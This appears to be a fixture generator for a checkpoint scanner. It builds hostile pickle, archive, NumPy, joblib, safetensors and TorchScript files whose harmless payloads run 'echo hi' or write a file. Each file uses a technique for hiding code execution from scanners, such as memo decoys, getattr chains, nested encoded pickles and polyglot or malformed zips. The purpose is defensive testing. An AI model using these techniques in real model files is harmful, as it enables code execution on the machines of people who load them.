#!/usr/bin/env python3
"""Makes fixtures/hostile/scan/: small files for ckpt-scan, each an attack, and facts.json, what is expected of each.

usage: scripts/makers/make_hostile_scan.py [--out DIR] [--scanners PYTHON] [--prove PYTHON] [--table]

  --scanners PYTHON  a Python that has picklescan and fickling: their verdicts go into facts.json, too
  --prove PYTHON     a Python that has torch, joblib, hydra, PyYAML, jinja2, easydict and yacs: it loads the files whose case names a loader, in an empty folder,
                     and the script fails unless those that are not clean do what they attack with, and only those
  --table            print the table of sizes and digests for fixtures/README.md

The files are written opcode by opcode and record by record with the standard library alone; without --prove no payload
is run. The payloads are `echo hi` and a file of the name `hostile`. Deterministic: dates are fixed, there is no randomness.
"""
import argparse
import base64
import gzip
import hashlib
import io
import json
import lzma
import pathlib
import pickle
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib

ROOT = pathlib.Path(__file__).resolve().parents[2]
CASES = []
LOADERS = {
    "joblib": "import joblib; joblib.load(path)",
    "numpy": "import numpy; numpy.load(path, allow_pickle=True)",
    "extra_state": "import pickle; from safetensors.numpy import load_file; load = load_file(path); "
                   "[pickle.loads(v.tobytes()) for k, v in load.items() if k.endswith('_extra_state') and v.dtype == 'u1' and v.size]",
    "script": "import torch; torch.jit.load(path)",
    "pickle": "import pickle; pickle.load(open(path, 'rb'))",
    "gzip": "import gzip, pickle; pickle.load(gzip.open(path))",
    "tar": "import pickle, tarfile; pickle.load(tarfile.open(path).extractfile('m.pkl'))",
    "logger": "import argparse, logging, pickle; pickle.load(open(path, 'rb')); "
              "print('hi' if dict in (argparse.Namespace.__eq__, logging.getLogger().warning) else '')",
    # Without its end, at which Python would crash.
    "array_type": "import os, pickle; a = pickle.load(open(path, 'rb')); t = a.dtype; "
                  "lies = t.kind == 'O' and (not t.hasobject or a.base is not None) or any(n + f.itemsize > t.itemsize or f.hasobject > t.hasobject "
                  "for f, n in (t.fields or {}).values()); print('hi' if lies else '', flush=True); os._exit(0)",
    # What the file makes Python run lies in another one.
    "config": "import os, pickle; ends = os.pipe(); os.write(ends[1], b\"print('hi')\"); os.close(ends[1]); "
              "os.dup2(ends[0], 0); pickle.load(open(path, 'rb'))",
    "yaml": "import yaml; yaml.unsafe_load(open(path))",
    "hydra": "import hydra, io, tarfile; from omegaconf import OmegaConf; "
             "text = io.TextIOWrapper(tarfile.open(path).extractfile('model_config.yaml')); hydra.utils.instantiate(OmegaConf.load(text))",
    "template": "import jinja2, struct; data = open(path, 'rb').read(); start = data.index(b'chat_template') + 17; "
                "end = start + 8 + struct.unpack_from('<Q', data, start)[0]; jinja2.Template(data[start + 8:end].decode()).render(messages=[])",
    # Stands for Lightning, whose callback connects to the place that it is given.
    "callback": "import pickle, sys, types; m = types.ModuleType('callbacks'); m.ModelCheckpoint = lambda *x: print('hi'); "
                "sys.modules.update({n: m for n in ('pytorch_lightning', 'pytorch_lightning.callbacks', "
                "'pytorch_lightning.callbacks.model_checkpoint')}); pickle.load(open(path, 'rb'))",
    "places": "import os, pickle; a = pickle.load(open(path, 'rb')); print('hi' if a.ctypes.data == 0x1234 else '', flush=True); os._exit(0)",
    "package": "import torch.package; torch.package.PackageImporter(path).load_pickle('model', 'model.pkl')",
}
# The names of files and of their loaders.
PROVABLE = {}


def case(name, attacks, verdict, *names, where=None, loader=None):
    """Registers a file: what it attacks, the verdict, the globals that must be reported as not clean, and what loads it."""

    def register(make):
        CASES.append((name, attacks, verdict, list(names), where, make))
        if loader:
            PROVABLE[name] = LOADERS[loader]
        return make

    return register


def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


def call(module="os", name="system", *arguments):
    """Protocol 4: module.name(*arguments)."""
    arguments = arguments or ("echo hi",)
    return stack_global(module, name) + b"(" + b"".join(text(a) for a in arguments) + b"tR"


P4 = b"\x80\x04"
SYSTEM = P4 + call() + b"."
CLASSIC = b"cos\nsystem\n(S'echo hi'\ntR."


def call_of(module, name, *arguments):
    """module.name(*arguments), the arguments as opcodes."""
    return stack_global(module, name) + b"(" + b"".join(arguments) + b"tR"


WRAPPER = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")


def wrapped_array(dtype, count=1, made=WRAPPER + b")\x81", more=b""):
    """joblib's wrapper of an array whose elements follow."""
    state = text("subclass") + stack_global("numpy", "ndarray") + text("shape") + b"K" + bytes([count]) + b"\x85"
    state += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89" + more
    return made + b"}(" + state + b"ub"


def archive(*entries, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, data in entries:
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            file.writestr(info, data)
    return buffer.getvalue()


def tar(*entries):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as file:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy(descr, data):
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


HARMLESS = pickle.dumps({"weight": [1, 2]}, 2)

# Pickles


@case("memo_names.pkl", "names that STACK_GLOBAL takes from the memo, after decoys", "dangerous", "os.system")
def _():
    return (P4 + text("os") + b"\x940" + text("system") + b"\x940" + text("torch") + b"\x940" + text("FloatStorage")
            + b"\x940h\x00h\x01\x93" + text("echo hi") + b"\x85R.")


@case("old_string_names.pkl", "names in Python 2's STRING form", "dangerous", "os.system")
def _():
    return b"S'os'\nS'system'\n\x93S'echo hi'\n\x85R."


@case("computed_name.pkl", "a name that the pickle puts together while it is loaded", "dangerous", "os.?")
def _():
    join = stack_global("builtins", "getattr") + b"(" + text("") + text("join") + b"tR"
    letters = b"(" + text("sys") + text("tem") + b"t"
    return P4 + text("os") + join + letters + b"\x85R\x93" + text("echo hi") + b"\x85R."


@case("dotted_path.pkl", "another module's import of os, by a dotted name", "dangerous",
      "torch.serialization.os.system")
def _():
    return P4 + call("torch.serialization", "os.system") + b"."


@case("reserved_attribute.pkl", "getattr of a harmless function's __globals__", "dangerous", "builtins.getattr")
def _():
    return (P4 + stack_global("builtins", "getattr") + stack_global("torch._utils", "_rebuild_tensor_v2")
            + text("__globals__") + b"\x86R.")


@case("called_attribute.pkl", "a method of a harmless class, called", "dangerous", "builtins.getattr")
def _():
    return (P4 + stack_global("builtins", "getattr") + stack_global("pathlib", "PosixPath") + text("touch") + b"\x86R("
            + stack_global("pathlib", "PosixPath") + text("never") + b"\x85RtR.")


@case("plain_attribute.pkl", "nothing: a method of a harmless class as mmengine pickles it", "clean")
def _():
    return (P4 + stack_global("builtins", "getattr") + stack_global("mmengine.logging.history_buffer", "HistoryBuffer")
            + text("mean") + b"\x86R.")


@case("partial.pkl", "functools.partial of a function, called", "dangerous", "functools.partial", "os.system")
def _():
    return P4 + stack_global("functools", "partial") + stack_global("os", "system") + text("echo hi") + b"\x86R)R."


@case("indirect_import.pkl", "importlib, whose result's attribute is called", "dangerous", "importlib.import_module")
def _():
    return (P4 + stack_global("builtins", "getattr") + call("importlib", "import_module", "os") + text("system")
            + b"\x86R" + text("echo hi") + b"\x85R.")


@case("hub.pkl", "torch.hub.load, which downloads code", "dangerous", "torch.hub.load")
def _():
    return P4 + call("torch.hub", "load", "nobody/nothing", "model") + b"."


@case("inst.pkl", "INST", "dangerous", "os.system")
def _():
    return b"(S'echo hi'\nios\nsystem\n."


@case("obj.pkl", "OBJ, its result dropped", "dangerous", "os.system")
def _():
    return b"(cos\nsystem\nS'echo hi'\no0N."


@case("newobj.pkl", "NEWOBJ of a class that opens a process", "dangerous", "subprocess.Popen")
def _():
    return P4 + stack_global("subprocess", "Popen") + b"(" + text("echo") + b"t\x81."


@case("changed_class.pkl", "BUILD on a class: its attributes change for the whole process", "dangerous",
      "collections.OrderedDict")
def _():
    return (P4 + stack_global("collections", "OrderedDict") + b"N}(" + text("update") + stack_global("builtins", "print")
            + b"u\x86b.")


@case("called_by_build.pkl", "an instance's __setstate__, which the next BUILD calls", "dangerous", "os.system")
def _():
    return (P4 + stack_global("argparse", "Namespace") + b")R}(" + text("__setstate__") + stack_global("os", "system")
            + b"ub" + text("echo hi") + b"b.")


@case("extension_code.pkl", "a global by its number in copyreg's registry", "dangerous", "copyreg extension 7")
def _():
    return P4 + b"\x82\x07" + text("echo hi") + b"\x85R."


@case("short_frame.pkl", "a frame that ends inside an opcode: unpicklers go on at different places", "dangerous",
      "os.system")
def _():
    hidden = b"cos\nsystem\nVecho hi\n\x85R0"
    return b"\x80\x05\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", len(hidden)) + hidden + b"."


@case("second_pickle.pkl", "a pickle after a harmless one", "dangerous", "os.system")
def _():
    return HARMLESS + CLASSIC


@case("trailing_bytes.pkl", "data after the pickle", "review")
def _():
    return HARMLESS + b"\xff\xfe\xfdwhat is this"


@case("found_behind.pkl", "a pickle after a harmless one and some bytes", "dangerous", "os.system")
def _():
    return HARMLESS + b"\xff\xfe\xfd" + SYSTEM


@case("broken.pkl", "a break after the call", "dangerous", "os.system")
def _():
    return P4 + call() + b"0\xff\xff"


@case("list_arguments.pkl", "arguments in a list, which the unpickler written in Python accepts", "dangerous",
      "os.system")
def _():
    return P4 + stack_global("os", "system") + b"](" + text("echo hi") + b"eR."


@case("harmless_build.pkl", "BUILD of None on a list, at which a strict reader stops", "dangerous", "os.system")
def _():
    return P4 + b"]Nb0" + call() + b"."


@case("odd_numbers.pkl", "numbers as only Python's int() reads them", "dangerous", "os.system")
def _():
    return b"I 1_0\n0" + CLASSIC


@case("nested_bytes.pkl", "a pickle in the bytes that torch.storage._load_from_bytes loads", "dangerous", "os.system")
def _():
    inner = SYSTEM
    return P4 + stack_global("torch.storage", "_load_from_bytes") + b"C" + bytes([len(inner)]) + inner + b"\x85R."


@case("joblib_array.joblib", "a call after the raw elements of a joblib array", "dangerous", "os.system", loader="joblib")
def _():
    alignment = text("numpy_array_alignment_bytes") + b"K\x10"
    wrapper = wrapped_array(call_of("numpy", "dtype", text("f8")), 2, more=alignment)
    return P4 + wrapper + b"\x03\xff\xff\xff" + struct.pack("<2d", 1, 2) + b"0" + call() + b"."


# Archives


@case("wrong_name.zip", "a pickle in an entry that is not named like one", "dangerous", "os.system",
      where="archive/data/0")
def _():
    return archive(("archive/data.pkl", HARMLESS), ("archive/data/0", SYSTEM))


@case("text_pickle_entry.zip", "a pickle without a protocol byte in a tensor's record", "dangerous", "os.system")
def _():
    return archive(("archive/data.pkl", HARMLESS), ("archive/data/0", CLASSIC))


@case("unlisted_entry.pth", "an entry that the directory does not list", "dangerous", "os.system")
def _():
    listed = archive(("archive/data.pkl", HARMLESS))
    hidden = archive(("archive/data.pkl", SYSTEM))
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    directory = bytearray(listed[listed.index(b"PK\x01\x02"):])
    end = directory.index(b"PK\x05\x06")
    first = listed[: listed.index(b"PK\x01\x02")]
    struct.pack_into("<I", directory, end + 16, len(first) + len(hidden))
    return first + hidden + bytes(directory)


@case("two_archives.pth", "a second archive after the first: PyTorch and Python see the last, others the first",
      "dangerous", "os.system")
def _():
    return archive(("archive/data.pkl", SYSTEM)) + archive(("archive/data.pkl", HARMLESS))


@case("pickle_then_zip.pth", "a pickle before a zip archive: readers choose by the first bytes or by the last",
      "dangerous", "os.system")
def _():
    return SYSTEM + archive(("archive/data.pkl", HARMLESS))


@case("safetensors_then_zip.safetensors", "a zip archive after a safetensors file", "dangerous", "os.system")
def _():
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(header)) + header + b"\0\0\0\0" + archive(("archive/data.pkl", SYSTEM))


@case("renamed_locally.pth", "a local header with another name", "dangerous", "os.system")
def _():
    return archive(("archive/data.pkl", SYSTEM)).replace(b"data.pkl", b"datap.kl", 1)


@case("two_methods.pth", "stored by the directory, deflated by the local header", "dangerous", "os.system")
def _():
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(SYSTEM) + packed.flush()
    made = bytearray(archive(("archive/data.pkl", data)))
    struct.pack_into("<H", made, 8, 8)
    return bytes(made)


@case("marked_encrypted.pth", "an entry marked as encrypted that is not", "dangerous", "os.system")
def _():
    made = bytearray(archive(("archive/data.pkl", SYSTEM)))
    struct.pack_into("<H", made, 6, 0x41)
    struct.pack_into("<H", made, made.index(b"PK\x01\x02") + 8, 0x41)
    return bytes(made)


@case("wrong_crc.pth", "a checksum that Python refuses and PyTorch does not look at", "dangerous", "os.system")
def _():
    return archive(("archive/data.pkl", SYSTEM)).replace(b"echo hi", b"echo ho")


@case("changed_weights.pth", "a harmless pickle changed after it was written", "review")
def _():
    return archive(("archive/data.pkl", HARMLESS)).replace(b"weight", b"waight", 1)


@case("same_name.pth", "two entries of one name: the first is harmless, the last is not", "dangerous", "os.system")
def _():
    return archive(("archive/data.pkl", HARMLESS), ("archive/data.pkl", SYSTEM))


@case("cut.pth", "an archive without its directory", "dangerous", "os.system")
def _():
    made = archive(("archive/data.pkl", SYSTEM))
    return made[: made.index(b"PK\x01\x02")]


@case("deep.zip", "a zip in a tar in a zip", "dangerous", "os.system", where="inner.tar > model.zip > data.pkl")
def _():
    model = archive(("data.pkl", SYSTEM), compression=zipfile.ZIP_DEFLATED)
    return archive(("inner.tar", tar(("model.zip", model))), compression=zipfile.ZIP_DEFLATED)


@case("compressed.pkl.gz", "a pickle under gzip", "dangerous", "os.system")
def _():
    return gzip.compress(SYSTEM, 9, mtime=0)


@case("compressed.joblib", "a pickle under zlib, as joblib writes it", "dangerous", "os.system")
def _():
    return zlib.compress(SYSTEM, 9)


@case("bomb.zip", "a pickle that unpacks to a thousand times its size", "clean")
def _():
    return archive(("data.pkl", b"N0" * 500_000 + b"N."), compression=zipfile.ZIP_DEFLATED)


@case("legacy.tar", "PyTorch's first format: a tar with pickles between the tensors", "dangerous", "os.system",
      where="storages > pickle @0x2a")
def _():
    storages = pickle.dumps(1, 2) + pickle.dumps(("0", "cpu", None), 2) + struct.pack("<q", 1) + b"\0" * 4 + SYSTEM
    return tar(("storages", storages), ("tensors", pickle.dumps(0, 2)), ("pickle", HARMLESS))


@case("tar_and_pickle.pth", "a tar archive whose first name is a pickle", "dangerous", "os.system")
def _():
    return tar((CLASSIC.decode(), b""), ("pickle", HARMLESS))


@case("objects.npy", "an array of objects", "dangerous", "os.system", where="objects")
def _():
    return npy("|O", SYSTEM)


@case("objects.npz", "an array of objects in an archive", "dangerous", "os.system", where="a.npy > objects")
def _():
    return archive(("a.npy", npy("|O", SYSTEM)), compression=zipfile.ZIP_DEFLATED)


@case("object_word.npy", "an array of objects by another name that NumPy knows", "dangerous", "os.system",
      where="objects")
def _():
    return npy("object", SYSTEM)


@case("object_escaped.npy", "an array of objects, its type spelled with an escape", "dangerous", "os.system")
def _():
    return npy("\\x4f", SYSTEM)


@case("object_field.npz", "objects in one field of a structure, in NumPy's short form", "dangerous", "os.system")
def _():
    return archive(("a.npy", npy("i4,O", SYSTEM)), compression=zipfile.ZIP_DEFLATED)


@case("joblib_memo.joblib", "a pickle inside joblib's, with a memo of its own", "dangerous", "os.system", loader="joblib")
def _():
    inner = P4 + text("os") + b"\x94" + text("system") + b"\x94" + b"00h\x00h\x01\x93" + text("echo hi") + b"\x85R."
    names = text("collections") + b"\x94" + text("OrderedDict") + b"\x9400"
    return P4 + names + wrapped_array(call_of("numpy", "dtype", text("O8"))) + inner


@case("joblib_structure.joblib", "an array of structures with objects, its pickle as long as its raw bytes", "dangerous",
      "os.system", loader="joblib")
def _():
    field = call_of("numpy", "dtype", text("O8")) + b"K\x00\x86"
    fields = b"(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + field + b"sK\x10K\x08K?tb"
    inner = SYSTEM + b"0" * (-len(SYSTEM) % 16)
    return P4 + wrapped_array(call_of("numpy", "dtype", text("V16")) + fields, len(inner) // 16) + inner + b"."


@case("unmarked_pickle_first.dat", "a harmless pickle of protocol 0 before the other", "dangerous", "os.system")
def _():
    return pickle.dumps(1, 0) + CLASSIC


@case("legacy_protocol_1.pth", "PyTorch's legacy stream at pickle protocol 1, which marks no pickle", "dangerous",
      "os.system", where="pickle 4")
def _():
    parts = [pickle.dumps(part, 1) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join(parts) + CLASSIC + pickle.dumps([], 1)


@case("padded_entry.zip", "a pickle after 6,000 bytes that do nothing", "dangerous", "os.system", where="notes.txt")
def _():
    return archive(("notes.txt", b"N0" * 3000 + CLASSIC), compression=zipfile.ZIP_DEFLATED)


@case("comment.pth", "a pickle in the archive's comment", "dangerous", "os.system", where="comment")
def _():
    return archive(("archive/data.pkl", HARMLESS))[:-2] + struct.pack("<H", len(SYSTEM)) + SYSTEM


@case("entry_comment.pth", "a pickle in the comment that the directory has of an entry", "dangerous", "os.system")
def _():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        info = zipfile.ZipInfo("archive/data.pkl", (1980, 1, 1, 0, 0, 0))
        info.comment = CLASSIC
        file.writestr(info, HARMLESS)
    return buffer.getvalue()


def legacy(storage=b"\0" * 4, kind="FloatStorage", key="w"):
    """PyTorch's legacy stream of a dictionary with one tensor's storage."""
    parts = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    name = f"X{chr(len(key))}\0\0\0{key}".encode()
    identity = b"(X\x07\0\0\0storage" + f"ctorch\n{kind}\n".encode() + b"X\x01\0\0\x000X\x03\0\0\0cpuK"
    count = len(storage) // (4 if kind == "FloatStorage" else 1)
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + identity + bytes([count]) + b"NtQK\0K" + bytes([count])
    tensor += b"\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
    parts.append(b"\x80\x02}" + name + tensor + b"s.")
    return b"".join(parts) + pickle.dumps(["0"], 2) + struct.pack("<q", count) + storage


@case("behind_storages.pth", "a pickle after the storages of a legacy stream", "dangerous", "os.system")
def _():
    return legacy() + SYSTEM


@case("extra_state_legacy.pth", "an _extra_state tensor that a module unpickles, in a legacy stream", "dangerous", "os.system",
      where="storage 0")
def _():
    return legacy(SYSTEM, "ByteStorage", "layer._extra_state")


@case("extra_state.pth", "an _extra_state tensor that a module unpickles", "dangerous", "os.system",
      where="archive/data/0")
def _():
    stream = legacy(SYSTEM, "ByteStorage", "layer._extra_state")
    start = stream.index(b"\x80\x02}X")
    data = stream[start:stream.index(b"s.", start) + 2].replace(b"NtQ", b"tQ")
    return archive(("archive/data.pkl", data), ("archive/data/0", SYSTEM), ("archive/version", b"3\n"))


@case("numbers.npy", "an array whose header promises numbers, and whose data are a pickle", "dangerous", "os.system",
      where="objects")
def _():
    return npy("<f8", SYSTEM)


@case("numbers_then_pickle.npy", "a pickle after the numbers of an array", "dangerous", "os.system")
def _():
    return npy("<f8", bytes(8) + SYSTEM)


@case("seven.pth", "a 7z archive that is named as a checkpoint", "dangerous")
def _():
    return b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(24)


@case("nested_text.pkl", "a pickle without a protocol mark in the bytes that pickle.loads is given", "dangerous", "os.system",
      "pickle.loads")
def _():
    return P4 + stack_global("pickle", "loads") + b"C" + bytes([len(CLASSIC)]) + CLASSIC + b"\x85R."


@case("nested_base64.pkl", "a pickle in base64 that is decoded while the file is loaded", "dangerous", "os.system")
def _():
    data = base64.b64encode(SYSTEM)
    decoded = stack_global("base64", "b64decode") + b"C" + bytes([len(data)]) + data + b"\x85R"
    return P4 + stack_global("pickle", "loads") + decoded + b"\x85R."


@case("nested_zlib.pkl", "a compressed pickle that is unpacked while the file is loaded", "dangerous", "os.system")
def _():
    data = zlib.compress(SYSTEM, 9)
    unpacked = stack_global("zlib", "decompress") + b"C" + bytes([len(data)]) + data + b"\x85R"
    return P4 + stack_global("_pickle", "loads") + unpacked + b"\x85R."


@case("stream_of_archive.pkl", "a torch archive in the stream of bytes that a call opens", "dangerous", "os.system",
      "torch.load")
def _():
    data = archive(("archive/data.pkl", SYSTEM))
    stream = stack_global("io", "BytesIO") + b"B" + struct.pack("<I", len(data)) + data + b"\x85R"
    return P4 + stack_global("torch", "load") + stream + b"\x85R."


@case("metadata.pkl", "one call among the data classes of a distributed checkpoint", "dangerous", "posix.system")
def _():
    state = b"}" + text("state_dict_metadata") + call("posix", "system", "true") + b"s"
    return P4 + stack_global("torch.distributed.checkpoint.metadata", "Metadata") + b")\x81" + state + b"b."


@case("another_class.pkl", "an object that is made one of another class", "review")
def _():
    return (P4 + stack_global("argparse", "Namespace") + b")\x81N}" + text("__class__")
            + stack_global("collections", "OrderedDict") + b"s\x86b.")


@case("no_tensors.safetensors", "a pickle after a safetensors header without tensors", "review")
def _():
    return struct.pack("<Q", 2) + b"{}" + SYSTEM


@case("seven.7z", "a format that is not looked into", "review")
def _():
    return b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(24)


@case("lambda.keras", "Python code in a Keras model's description", "review", where="config.json")
def _():
    return archive(("config.json", b'{"class_name": "Lambda", "config": {}}'))


# What must not be cried at


@case("tensor_like_bytes.pth", "nothing: tensors whose bytes begin like pickles, gzip and lzma data", "clean")
def _():
    return archive(
        ("archive/data.pkl", HARMLESS), ("archive/data/0", b"\x80\x02\x83\x44\xf7\xbe\xf6\x18" * 4),
        ("archive/data/1", b"\x1f\x8b\x3c\xbd" * 8), ("archive/data/2", b"\x5d\0\0\0\0\0\0\0"),
        ("archive/data/3", b"NN\x93\x8a\xff\xff" * 4))


@case("python_text.py", "nothing: a text that begins like GLOBAL", "clean")
def _():
    return b"class Model:\n    pass\n"


# What loaders other than pickle's own read


def numpy_type(code, size, flags=0):
    """A dtype whose state may say another size than its code; -1 is the code's."""
    state = b"(K\x03" + text("|") + b"NNN" + b"J" + struct.pack("<i", size) + b"K\x01K" + bytes([flags]) + b"t"
    return stack_global("numpy", "dtype") + b"(" + text(code) + b"\x89\x88tR" + state + b"b"


@case("joblib_item_size.bin", "elements that are smaller than their type's code says", "dangerous", loader="joblib")
def _():
    hidden = b"x" + call() + b"0."
    return P4 + wrapped_array(numpy_type("S1000", 1), 1) + hidden + b"." * (1001 - len(hidden))


@case("joblib_class_as_type.bin", "a type that is named by a class, and elements that begin like bytes", "dangerous", loader="joblib")
def _():
    dtype = stack_global("numpy", "dtype") + stack_global("numpy", "uint8") + b"\x89\x88\x87R"
    return P4 + wrapped_array(dtype, 5) + b"B" + struct.pack("<I", len(call()) + 1) + call() + b"0."


@case("joblib_elements.bin", "elements that are opcodes for pickle.load, with the memo that it has", "dangerous",
      "os.system")
def _():
    hidden = b"h\x000" + call() + b"."
    return P4 + b"]\x940" + wrapped_array(numpy_type("u1", -1), len(hidden)) + hidden + b"."


@case("joblib_flags.joblib", "numbers whose flags say that they are objects: a pickle follows", "dangerous", "os.system",
      loader="joblib")
def _():
    return P4 + wrapped_array(numpy_type("f8", -1, flags=1), len(SYSTEM) // 8 + 1) + SYSTEM + b"."


@case("joblib_inner_wrapper.joblib", "an array inside the pickle of objects, whose elements pickle.load takes for opcodes",
      "dangerous", "os.system", loader="joblib")
def _():
    inner = P4 + wrapped_array(numpy_type("u1", -1), len(call()) + 1) + b"0" + call() + b"."
    return P4 + wrapped_array(call_of("numpy", "dtype", text("O8"))) + inner + b"."


@case("joblib_alignment.joblib", "an array whose alignment is True, which is a number for joblib", "dangerous", "os.system",
      loader="joblib")
def _():
    alignment = text("numpy_array_alignment_bytes") + b"\x88"
    wrapper = wrapped_array(numpy_type("f8", -1), more=alignment)
    return P4 + wrapper + b"\x02\xff\xff" + struct.pack("<d", 1) + b"0" + call() + b"."


@case("joblib_old_object.joblib", "a wrapper that is made as protocol 1 makes objects, and elements that begin like bytes",
      "dangerous", "os.system", loader="joblib")
def _():
    made = stack_global("copyreg", "_reconstructor") + b"(" + WRAPPER + stack_global("builtins", "object") + b"NtR"
    return P4 + wrapped_array(numpy_type("u1", -1), 4, made=made) + b"B\xff\xff\xff0" + call() + b"."


@case("joblib_made_type.joblib", "a type that is made without a call of it, and an element that begins like a long text",
      "dangerous", loader="joblib")
def _():
    kind = stack_global("numpy", "dtype")
    dtype = stack_global("copyreg", "_reconstructor") + b"(" + kind + kind + text("f8") + b"tR"
    return P4 + wrapped_array(dtype) + b"X\xff\xff\xff\x7f\0\0\0" + b"0" + call() + b"."


@case("joblib_outer_memo.joblib", "names that are remembered before an array of objects, whose own memory has others",
      "dangerous", "os.system", loader="joblib")
def _():
    names = text("os") + b"\x940" + text("system") + b"\x940"
    inner = P4 + text("math") + b"\x940" + text("sqrt") + b"\x940" + call_of("numpy", "float64") + b"."
    array = wrapped_array(call_of("numpy", "dtype", text("O8"))) + inner
    return P4 + names + array + b"0h\x00h\x01\x93" + text("echo hi") + b"\x85R."


@case("lzma.bin", "LZMA data of a small dictionary", "dangerous")
def _():
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
    return lzma.compress(SYSTEM, format=lzma.FORMAT_ALONE, filters=filters)


@case("lzma.zip", "LZMA data in an archive, which joblib.load opens by its name", "review", where="m.pkl.lzma")
def _():
    return archive(("m.pkl.lzma", lzma.compress(SYSTEM, format=lzma.FORMAT_ALONE)))


@case("value.distcp", "a value of a distributed checkpoint that is not an archive", "dangerous", "os.system")
def _():
    return bytes(16) + SYSTEM


SCRIPT = """class M(Module):
  __parameters__ = []
  __buffers__ = []
  def __getstate__(self: __torch__.M) -> int:
    return 1
  def __setstate__(self: __torch__.M, state: int) -> NoneType:
    %s
    return None
"""


def script(statement, name="m/code/__torch__.py"):
    """What torch.jit.save writes of a module that does as the statement says when it is loaded."""
    module = b"\x80\x02c__torch__\nM\n)\x81K\x01b."
    return archive(
        ("m/data.pkl", module), (name, (SCRIPT % statement).encode()), ("m/constants.pkl", b"\x80\x02)."),
        ("m/version", b"3\n"), compression=zipfile.ZIP_DEFLATED)


@case("script.pt", "TorchScript that writes a file when it is loaded, packed as PyTorch packs it", "review", loader="script")
def _():
    return script('torch . save  (state, "hostile")  # written with spaces')


@case("script_case.pt", "the same under a name in capitals, which PyTorch takes as well", "review", loader="script")
def _():
    return script('torch.save(state, "hostile")', "m/code/__torch__.PY")


@case("script_text.pt", "the same after a text between three quotes with quotes in it", "review", loader="script")
def _():
    return script('a = """it\'s "quoted"\n"""\n    torch.save(state, "hostile")')


@case("script_getattr.pt", "the same by getattr, its name in parentheses and in pieces, one with an octal number", "review",
      loader="script")
def _():
    return script("""getattr(torch, ("s\\141" '''ve'''))(state, "hostile")""")


@case("script_plain.pt", "nothing: TorchScript that only speaks of saving", "clean", loader="script")
def _():
    return script('print(".save(", state)  # .save(')


@case("script_plain_text.pt", "nothing: TorchScript with such a text between three quotes, and another getattr", "clean",
      loader="script")
def _():
    return script(
        'print("""torch.save(state, "hostile")\n""", getattr(self, "__getstate__")(), "save")')


@case("similar_names.pth", "two pickles whose names differ by case: PyTorch takes the first", "review")
def _():
    return archive(("m/DATA.PKL", HARMLESS), ("m/data.pkl", HARMLESS))


def storage(key, count):
    kind = stack_global("torch", "ByteStorage")
    return b"(" + text("storage") + kind + text(key) + text("cpu") + b"J" + struct.pack("<i", count) + b"tQ"


HOOKS = stack_global("collections", "OrderedDict") + b")R"


def tensor_of(key, count):
    number = b"J" + struct.pack("<i", count)
    arguments = storage(key, count) + b"K\x00" + number + b"\x85K\x01\x85\x89" + HOOKS
    return call_of("torch._utils", "_rebuild_tensor_v2", arguments)


@case("extra_state_parameter.pth", "an extra state that is a parameter", "dangerous", "os.system")
def _():
    value = call_of("torch._utils", "_rebuild_parameter", tensor_of("0", len(SYSTEM)), b"\x89", HOOKS)
    data = P4 + b"}" + text("a._extra_state") + value + b"s."
    return archive(("m/data.pkl", data), ("m/data/0", SYSTEM))


def safetensors(**tensors):
    """Vectors of bytes; a tensor is its dtype and its bytes."""
    header, data = {}, b""
    for name, (dtype, content) in tensors.items():
        shape = [len(content) // (1 if dtype == "U8" else 4)]
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(content)]}
        data += content
    header = json.dumps(header).replace("%", "\\u00").encode()
    return struct.pack("<Q", len(header)) + header + data


@case("extra_state.safetensors", "an _extra_state tensor that a module unpickles", "dangerous", "os.system",
      where="a._extra_state", loader="extra_state")
def _():
    return safetensors(weight=("F32", bytes(8)), **{"a.%5Fextra_state": ("U8", SYSTEM)})


@case("extra_state_plain.safetensors", "nothing: extra states as Transformer Engine writes them, and bytes that nobody unpickles",
      "clean", loader="extra_state")
def _():
    numbers = bytes(range(128, 144))
    return safetensors(**{
        "a._extra_state": ("U8", pickle.dumps({"scale": 1.0, "amax_history": [0.0] * 4})), "b._extra_state": ("U8", b""),
        "c._extra_state": ("F32", numbers), "weight": ("U8", SYSTEM), "bias": ("F32", SYSTEM + bytes(-len(SYSTEM) % 4))})


@case("array_in_storage.pth", "an array of objects in the place of elements, which numpy.load opens", "dangerous",
      "os.system")
def _():
    array = npy("|O", SYSTEM)
    data = P4 + b"}" + text("a") + tensor_of("0", len(array)) + b"s."
    return archive(("m/data.pkl", data), ("m/data/0", array))


@case("keyed_storage.pt2", "a record that is a storage by name and a pickled weight as well", "dangerous", "os.system")
def _():
    data = P4 + b"}" + text("a") + tensor_of("weights/weight_0", len(SYSTEM)) + b"s."
    return archive(("m/data.pkl", data), ("m/data/weights/weight_0", SYSTEM))


